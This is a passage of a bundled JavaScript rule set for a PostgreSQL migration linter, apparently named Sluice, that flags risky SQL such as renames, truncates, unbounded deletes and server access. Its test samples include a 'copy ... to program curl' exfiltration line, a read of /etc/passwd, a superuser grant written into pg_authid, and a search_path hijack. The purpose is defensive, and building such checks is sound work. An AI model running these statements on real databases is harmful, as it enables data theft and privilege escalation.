		effect,
		level: "medium",
		message: `Revokes ${privileges.join(", ")}${onObject(effect)} from ${from.join(", ")}.`
	}];
}
function onObject({ object }) {
	return object === void 0 ? "" : ` on ${objectName(object)}`;
}
function altered(effect) {
	const { change, object, to } = effect;
	const words = changes$1[change];
	if (words === void 0 || isNewTable(effect)) return [];
	const detail = to === void 0 || to === "" ? "" : `: ${to}`;
	return [{
		effect,
		level: change === "role-attributes" && powers.test(to ?? "") ? "critical" : "high",
		message: `${words} ${objectName(object)}${detail}.`
	}];
}
/** Nobody relies on the protections of a table that this change creates, except on its owner. */
function isNewTable(effect) {
	return effect.kind === "alters" && effect.object.createdHere && effect.change !== "owner" && effect.change !== "security-definer" && effect.change !== "policy";
}
const renameObject = defineRule({
	id: "rename-object",
	title: "An object gets another name or schema",
	why: "Clients that use the old name fail at once, and a later statement may meet another object under it.",
	instead: "Add the new name beside the old one, for example with a view, and move the clients first.",
	invalid: [
		{
			sql: "alter table users rename to people",
			level: "high",
			message: "Renames table users to people."
		},
		{
			sql: "alter table users rename column email to mail",
			level: "high",
			message: "Renames column users.email to mail."
		},
		{
			sql: "alter table users set schema archive",
			level: "high",
			message: "Moves table users to schema archive."
		}
	],
	valid: ["create table scratch (id int); alter table scratch rename to notes"],
	check: ({ effects }) => ofKind(effects, "alters").flatMap((effect) => {
		const { object, change, to } = effect;
		if (object.createdHere || change !== "rename" && change !== "set-schema") return [];
		return [{
			effect,
			level: "high",
			message: change === "rename" ? `Renames ${objectName(object)} to ${to ?? ""}.` : `Moves ${objectName(object)} to schema ${to ?? ""}.`
		}];
	})
});
const replaceObject = defineRule({
	id: "replace-object",
	title: "An object may be replaced by another of the same name",
	why: "If it exists, everything that uses it behaves differently from then on.",
	instead: "Use plain CREATE for a new object; when it replaces one, let the owner of its users approve.",
	invalid: [{
		sql: "create or replace view report as select 1",
		level: "medium",
		message: "Creates or replaces view report."
	}, {
		sql: "create or replace function total() returns int language sql as $$ select 1 $$",
		level: "medium",
		message: "Creates or replaces function total."
	}],
	valid: ["create view report as select 1"],
	check: ({ effects }) => ofKind(effects, "creates").filter(({ replaces }) => replaces).map((effect) => ({
		effect,
		level: "medium",
		message: `Creates or replaces ${objectName(effect.object)}.`
	}))
});
const serverAccess = defineRule({
	id: "server-access",
	title: "The change reaches beyond the database",
	why: "Files, programs, libraries, other servers and sessions are outside of what a rollback undoes.",
	instead: "Let an administrator do it outside of a governed change.",
	invalid: [
		{
			sql: "copy users to program 'curl -T - https://example.test'",
			level: "critical",
			message: "Reaches the server: copy program."
		},
		{
			sql: "select pg_read_file('/etc/passwd')",
			level: "critical",
			message: "Reaches the server: pg_read_file()."
		},
		{
			sql: "create extension pgcrypto",
			level: "high",
			message: "Reaches the server: create extension."
		},
		{
			sql: "select pg_terminate_backend(1)",
			level: "high",
			message: "Reaches the server: pg_terminate_backend()."
		},
		{
			sql: "select pg_notify('jobs', '')",
			level: "high",
			message: "Reaches the server: pg_notify()."
		},
		{
			sql: "alter system set fsync = 'off'",
			level: "critical",
			message: "Reaches the server: alter system fsync."
		}
	],
	valid: ["insert into users (id) values (1)"],
	check: ({ effects }) => ofKind(effects, "accesses-server").map((effect) => ({
		effect,
		level: effect.how === "session" || effect.how === "library" ? "high" : "critical",
		message: `Reaches the server: ${effect.detail}.`,
		unknown: true
	}))
});
/** Settings that neither weaken a protection nor change what a name means. */
const harmless = /* @__PURE__ */ new Set([
	"lock_timeout",
	"statement_timeout",
	"idle_in_transaction_session_timeout",
	"transaction_timeout",
	"application_name",
	"timezone",
	"datestyle",
	"intervalstyle",
	"work_mem",
	"maintenance_work_mem",
	"max_parallel_maintenance_workers",
	"client_min_messages",
	"transaction",
	"constraint_exclusion"
]);
/** Settings that already have a rule of their own. */
const elsewhere = /* @__PURE__ */ new Set([
	"standard_conforming_strings",
	"backslash_quote",
	"escape_string_warning",
	"client_encoding",
	"names"
]);
const sessionSetting = defineRule({
	id: "session-setting",
	title: "A setting changes protections or the meaning of names",
	why: "Triggers, row security, roles or the search path no longer work as the reviewers assume.",
	instead: "Qualify names with their schema and leave roles and protections to the runner.",
	invalid: [
		{
			sql: "set session_replication_role = replica",
			level: "high",
			message: "Sets session_replication_role to replica."
		},
		{
			sql: "set search_path = attacker, public",
			level: "high",
			message: "Sets search_path to attacker, public."
		},
		{
			sql: "reset all",
			level: "high",
			message: "Sets all to its default."
		},
		{
			sql: "set lock_timeout = 0",
			level: "medium",
			message: "Sets lock_timeout to 0."
		},
		{
			sql: "alter role app set work_mem = '1GB'",
			level: "high",
			message: "Sets work_mem to 1GB for a role."
		}
	],
	valid: ["set local statement_timeout = '30s'"],
	check: ({ effects }) => ofKind(effects, "sets").flatMap((effect) => {
		const level = levelOf(effect);
		return level === void 0 ? [] : [{
			effect,
			level,
			message: messageOf(effect)
		}];
	})
});
function levelOf(effect) {
	const { setting, scope, value = "" } = effect;
	if (elsewhere.has(setting) || scope === "function" && setting === "search_path") return;
	if ([
		"role",
		"database",
		"system"
	].includes(scope) || !harmless.has(setting)) return "high";
	return setting.endsWith("_timeout") && value.startsWith("0") ? "medium" : void 0;
}
function messageOf({ setting, scope, value }) {
	return `Sets ${setting} ${value === void 0 ? "to its default" : `to ${value}`}${scope === "session" || scope === "transaction" ? "" : ` for a ${scope}`}.`;
}
const systemCatalogWrite = defineRule({
	id: "system-catalog-write",
	title: "PostgreSQL’s own tables are changed",
	why: "A catalog that is changed by hand can lose objects, privileges or the whole database.",
	instead: "Use the statement that PostgreSQL offers for it.",
	invalid: [{
		sql: "update pg_catalog.pg_authid set rolsuper = true where rolname = 'app'",
		level: "critical",
		message: "Changes table pg_catalog.pg_authid, which belongs to PostgreSQL."
	}, {
		sql: "delete from pg_depend where objid = 1",
		level: "critical",
		message: "Changes table pg_depend, which belongs to PostgreSQL."
	}],
	valid: ["select relname from pg_class"],
	check: ({ effects }) => effects.flatMap((effect) => {
		const object = changedObject(effect);
		if (object === void 0 || !isSystem(object)) return [];
		return [{
			effect,
			level: "critical",
			message: `Changes ${objectName(object)}, which belongs to PostgreSQL.`,
			destructive: true,
			denies: true
		}];
	})
});
function changedObject(effect) {
	if (effect.source === "observed") return void 0;
	if (effect.kind === "writes" || effect.kind === "truncates") return effect.object;
	return effect.kind === "drops" || effect.kind === "alters" ? effect.object : void 0;
}
function isSystem({ kind, schema, name }) {
	if (kind === "role" || kind === "database") return false;
	if (schema === "pg_catalog" || schema === "information_schema") return true;
	return schema === void 0 && name.startsWith("pg_") && (kind === "table" || kind === "schema");
}
const transactionControl = defineRule({
	id: "transaction-control",
	title: "The change controls its transaction",
	why: "Whatever follows a COMMIT or ROLLBACK escapes the rehearsal and cannot be undone as a whole.",
	instead: "Leave BEGIN and COMMIT out, or use exactly one pair around the whole file.",
	invalid: [{
		sql: "commit",
		level: "critical",
		message: "Controls the transaction: commit."
	}, {
		sql: "begin; select 1; savepoint a; commit",
		level: "critical",
		message: "Controls the transaction: savepoint."
	}],
	valid: ["begin; create table scratch (id int); commit"],
	check: ({ effects, scripts }) => {
		const all = ofKind(effects, "controls-transaction");
		return all.filter((effect) => !isEnclosing(effect, all, scripts)).map((effect) => ({
			effect,
			level: "critical",
			message: `Controls the transaction: ${effect.action}.`,
			denies: true
		}));
	}
});
/** BEGIN as the first and COMMIT as the last statement of a unit are taken as the unit's own. */
function isEnclosing(effect, all, scripts) {
	const last = (scripts.find(({ unitId }) => unitId === effect.unitId)?.statements.length ?? 0) - 1;
	const has = (statement, actions) => all.some((other) => other.unitId === effect.unitId && other.statement === statement && other.via === "direct" && actions.includes(other.action));
	return last > 0 && has(0, ["begin", "start"]) && has(last, ["commit"]) && effect.via === "direct" && (effect.statement === 0 || effect.statement === last);
}
const truncate = defineRule({
	id: "truncate",
	title: "A table is emptied",
	why: "Every row is gone without firing delete triggers; CASCADE empties the tables that refer to it too.",
	instead: "Delete the rows that are meant, by key, or let the table’s owner approve that all of them go.",
	invalid: [{
		sql: "truncate public.orders",
		level: "critical",
		message: "Empties table public.orders."
	}, {
		sql: "truncate table orders cascade",
		level: "critical",
		message: "Empties table orders and every table that refers to it."
	}],
	valid: ["create table scratch (id int); truncate scratch"],
	check: ({ effects }) => ofKind(effects, "truncates").flatMap((effect) => {
		const { object, cascade } = effect;
		if (object.createdHere && !cascade) return [];
		const more = cascade ? " and every table that refers to it" : "";
		return [{
			effect,
			level: "critical",
			message: `Empties ${objectName(object)}${more}.`,
			destructive: true
		}];
	})
});
const unboundedDelete = defineRule({
	id: "unbounded-delete",
	title: "Every row is deleted",
	why: "The whole table is lost, and rows of other tables may follow through cascading foreign keys.",
	instead: "Name the rows that are meant: a WHERE clause on a key, or a list of keys, in batches.",
	invalid: [{
		sql: "delete from users",
		level: "critical",
		message: "Deletes every row of table users: there is no condition that limits it."
	}, {
		sql: "delete from users where id = id or false",
		level: "critical",
		message: "Deletes every row of table users: its condition is always true."
	}],
	valid: [`create table scratch (id int); delete from scratch`],
	check: ({ effects }) => ofKind(effects, "writes").flatMap((effect) => {
		const { object, verb, reach } = effect;
		if (verb !== "delete" || object.createdHere) return [];
		if (reach !== "unbounded" && reach !== "tautology") return [];
		const because = reach === "tautology" ? "its condition is always true" : "there is no condition that limits it";
		return [{
			effect,
			level: "critical",
			message: `Deletes every row of ${objectName(object)}: ${because}.`,
			destructive: true
		}];
	})
});
const unboundedUpdate = defineRule({
	id: "unbounded-update",
	title: "Every row is updated",
	why: "The values that were there before are lost in every row, and every row is locked until the change commits.",
	instead: "Name the rows that are meant: a WHERE clause on a key, or a list of keys, in batches.",
	invalid: [{
		sql: "update users set active = false",
		level: "critical",
		message: "Updates every row of table users: there is no condition that limits it."
	}, {
		sql: "update users set active = false where 1 = 1",
		level: "critical",
		message: "Updates every row of table users: its condition is always true."
	}],
	valid: [`update users set name = 'a' where id = 7`],
	check: ({ effects }) => ofKind(effects, "writes").flatMap((effect) => {
		const { object, verb, reach } = effect;
		if (verb !== "update" || object.createdHere) return [];
		if (reach !== "unbounded" && reach !== "tautology") return [];
		const because = reach === "tautology" ? "its condition is always true" : "there is no condition that limits it";
		return [{
			effect,
			level: "critical",
			message: `Updates every row of ${objectName(object)}: ${because}.`,
			destructive: true
		}];
	})
});
const unknownFunctionCall = defineRule({
	id: "unknown-function-call",
	title: "A function is called whose effects are not known",
	why: "The function can write, drop or send anything; its code is not part of this change.",
	instead: "Do the work in plain statements, or let the function’s owner approve the call.",
	invalid: [{
		sql: "select cleanup_users()",
		level: "medium",
		message: "Calls cleanup_users: its effects are not known."
	}, {
		sql: "select setval('ids', 1)",
		level: "medium",
		message: "Calls setval: its effects are not known."
	}],
	valid: ["select count(*) from users", "create table scratch (at timestamptz default now())"],
	check: ({ effects }) => ofKind(effects, "calls").filter((effect) => !effect.known).map((effect) => ({
		effect,
		level: "medium",
		message: `Calls ${effect.name}: its effects are not known.`,
		unknown: true
	}))
});
const unknownStatement = defineRule({
	id: "unknown-statement",
	title: "A statement or body that Sluice does not follow",
	why: "It can run code that no rule has seen, so it cannot be judged.",
	instead: "Write it in SQL or PL/pgSQL, or let an administrator do it outside of a governed change.",
	invalid: [{
		sql: "create cast (text as int4) with inout as implicit",
		level: "critical",
		message: "Cannot be judged: It runs functions through operators, casts or index access that nobody can follow."
	}],
	valid: ["create type mood as enum ('calm', 'busy')"],
	check: ({ effects }) => ofKind(effects, "unknown").map((effect) => ({
		effect,
		level: "critical",
		message: `Cannot be judged: ${effect.reason}`,
		unknown: true,
		denies: true
	}))
});
const unparsed = defineRule({
	id: "unparsed",
	title: "Text that PostgreSQL’s grammar does not accept",
	why: "Nobody can say what it would do, so it cannot be allowed.",
	instead: "Correct the syntax; put commands of psql or of a migration tool elsewhere.",
	invalid: [{
		sql: "drop tabel users",
		level: "critical",
		message: "Cannot be read: PostgreSQL's grammar does not accept it: syntax error at or near \"tabel\"."
	}],
	valid: ["create table scratch (id int)"],
	check: ({ effects }) => ofKind(effects, "unparsed").map((effect) => ({
		effect,
		level: "critical",
		message: `Cannot be read: ${effect.reason}`,
		unknown: true,
		denies: true
	}))
});
const changes = {
	"drop-constraint": "Drops",
	"alter-constraint": "Changes",
	"drop-not-null": "Allows NULL in",
	"restart-sequence": "Restarts",
	"set-unlogged": "Gives up crash safety of",
	"detach-partition": "Detaches a partition from",
	"drop-identity": "Drops the identity of",
	"drop-expression": "Drops the expression of",
	"replica-identity": "Changes the replica identity of"
};
/** Every rule, in the order of its id. A new rule is one file and one line here. */
const rules = [
	alterColumnType,
	auditTampering,
	blockingLock,
	blockingScan,
	dataExport,
	deleteRows,
	dropColumn,
	dropObject,
	dropTable,
	filteredUpdate,
	grantToPublic,
	indexWithoutConcurrently,
	newerSyntax,
	observedNotPredicted,
	opaqueDynamicSql,
	parseSetting,
	privilegedChange,
	renameObject,
	replaceObject,
	serverAccess,
	sessionSetting,
	systemCatalogWrite,
	transactionControl,
	truncate,
	unboundedDelete,
	unboundedUpdate,
	unknownFunctionCall,
	unknownStatement,
	unparsed,
	defineRule({
		id: "weaken-integrity",
		title: "A guarantee about the data is given up",
		why: "Wrong rows can enter from then on, and what reads them may rely on the guarantee.",
		instead: "Say in the pull request who checked that nothing relies on it.",
		invalid: [{
			sql: "alter table orders drop constraint orders_user",
			level: "medium",
			message: "Drops constraint orders.orders_user."
		}, {
			sql: "alter table users alter column email drop not null",
			level: "medium",
			message: "Allows NULL in column users.email."
		}],
		valid: ["alter table users alter column note set default ''"],
		check: ({ effects }) => ofKind(effects, "alters").flatMap((effect) => {
			const words = changes[effect.change];
			if (words === void 0 || effect.object.createdHere) return [];
			return [{
				effect,
				level: "medium",
				message: `${words} ${objectName(effect.object)}.`
			}];
		})
	})
];
export { isOptionOn as a, nodesAs as c, hasTag as i, optionNamed as l, childrenOf as n, namesOf as o, constantText as r, nodeAs as s, rules as t, someNode as u };
